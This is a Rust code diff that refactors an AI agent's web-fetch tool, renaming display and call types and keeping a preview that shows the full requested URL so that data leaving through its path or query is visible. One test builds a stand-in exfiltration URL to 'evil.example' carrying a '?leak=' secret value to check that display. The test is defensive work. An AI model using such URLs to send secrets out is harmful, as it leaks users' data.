@@ -11,7 +11,7 @@ use super::{
 use epitome_provider::http::page::{self, Address, BODY_BYTES_MAX, Document, Fetched};
 use epitome_provider::network::Network;
 use epitome_thread::attached::FileType;
-use epitome_thread::{Card, OutcomeContent, Shown, ToolKind, ToolSpec};
+use epitome_thread::{CallDisplay, OutcomeContent, ToolDisplay, ToolKind, ToolSpec};
 
 /// Bytes of text per call, leaving room for the text around it.
 const TEXT_BYTES_MAX: usize = truncate::OUTPUT_BYTES_MAX - 2 * 1024;
@@ -25,7 +25,7 @@ const TITLE_BYTES_MAX: usize = 100;
 pub struct WebFetch;
 
 impl ParsedTool for WebFetch {
-    type Call = Call;
+    type Call = FetchCall;
 
     fn spec(&self) -> ToolSpec {
         ToolSpec {
@@ -45,7 +45,7 @@ impl ParsedTool for WebFetch {
         }
     }
 
-    fn card(&self, input: &Value, _: &Workspace) -> Card {
+    fn display(&self, input: &Value, _: &Workspace) -> CallDisplay {
         let url = input.get("url").and_then(Value::as_str).unwrap_or_default();
         // As it will be requested: names of hosts in other scripts are shown by their letters.
         let url =
@@ -54,26 +54,26 @@ impl ParsedTool for WebFetch {
             "" => "Fetch a page".to_owned(),
             url => format!("Fetch {}", shortened(url)),
         };
-        Card { title, kind: ToolKind::Fetch, locations: Vec::new() }
+        CallDisplay { title, kind: ToolKind::Fetch, locations: Vec::new() }
     }
 
-    fn parse(&self, input: &Value, _: &Workspace) -> Result<Call, String> {
+    fn parse(&self, input: &Value, _: &Workspace) -> Result<FetchCall, String> {
         let address = Address::parse(&input::named(input, "url")?)?;
         let offset = input::whole(input, "offset")?.unwrap_or(0);
-        Ok(Call { address, offset: usize::try_from(offset).unwrap_or(usize::MAX) })
+        Ok(FetchCall { address, offset: usize::try_from(offset).unwrap_or(usize::MAX) })
     }
 
-    fn access(&self, Call { address, .. }: Call, _: &Workspace) -> Result<Access, String> {
+    fn access(&self, FetchCall { address, .. }: FetchCall, _: &Workspace) -> Result<Access, String> {
         Ok(Access::Fetch { url: address.url().to_owned(), host: address.host() })
     }
 
     /// The whole address: its path and query may carry data out.
-    fn preview(&self, call: Call, _: ToolContext) -> BoxFuture<Vec<Shown>> {
+    fn preview(&self, call: FetchCall, _: ToolContext) -> BoxFuture<Vec<ToolDisplay>> {
         let text = disk::fenced("", call.address.url());
-        Box::pin(std::future::ready(vec![Shown::Text { text }]))
+        Box::pin(std::future::ready(vec![ToolDisplay::Text { text }]))
     }
 
-    fn run(&self, call: Call, context: ToolContext) -> BoxFuture<ToolResult> {
+    fn run(&self, call: FetchCall, context: ToolContext) -> BoxFuture<ToolResult> {
         Box::pin(async move { fetch(call, &context).await.unwrap_or_else(ToolResult::failed) })
     }
 }
@@ -89,13 +89,16 @@ fn shortened(url: &str) -> String {
     format!("{head}…({left_out} more bytes)…{tail}")
 }
 
-pub struct Call {
+pub struct FetchCall {
     address: Address,
     /// Bytes of the text to skip.
     offset: usize,
 }
 
-async fn fetch(Call { address, offset }: Call, context: &ToolContext) -> Result<ToolResult, String> {
+async fn fetch(
+    FetchCall { address, offset }: FetchCall,
+    context: &ToolContext,
+) -> Result<ToolResult, String> {
     let network = Network::read(&context.workspace.environment);
     let document = match page::fetch(&address, &network, context.fetches_private).await? {
         Fetched::Document(document) => document,
@@ -126,7 +129,7 @@ fn result_of(document: Document, offset: usize, sees_images: bool) -> Result<Too
             document.status
         ));
     }
-    if let Some(kind) = FileType::of(&document.body) {
+    if let Some(kind) = FileType::detect(&document.body) {
         return file(kind, &document, sees_images);
     }
     let Some((title, text)) = text_of(&document) else {
@@ -158,7 +161,7 @@ fn result_of(document: Document, offset: usize, sees_images: bool) -> Result<Too
             "\n[the document is longer than {BODY_BYTES_MAX} bytes; the rest was not taken]"
         ));
     }
-    let shown = vec![Shown::Text { text: disk::fenced("", part) }];
+    let shown = vec![ToolDisplay::Text { text: disk::fenced("", part) }];
     Ok(ToolResult { shown, ..ToolResult::completed(page) })
 }
 
@@ -240,12 +243,12 @@ mod tests {
         let url = format!("https://evil.example/{}?leak=MADE-UP-SECRET", "a".repeat(200));
         let workspace = Workspace::new("/w", Vec::new(), Arc::default());
         let input = json!({ "url": url });
-        let title = ParsedTool::card(&WebFetch, &input, &workspace).title;
+        let title = ParsedTool::display(&WebFetch, &input, &workspace).title;
         assert!(title.starts_with("Fetch https://evil.example/aaa"), "{title}");
         assert!(title.ends_with("?leak=MADE-UP-SECRET") && title.contains(" more bytes)"), "{title}");
         let call = WebFetch.parse(&input, &workspace).expect("an address");
         let shown = WebFetch.preview(call, ToolContext::bare(Arc::new(workspace))).await;
-        assert_eq!(shown, [Shown::Text { text: format!("```\n{url}\n```") }]);
+        assert_eq!(shown, [ToolDisplay::Text { text: format!("```\n{url}\n```") }]);
     }
 
     #[test]
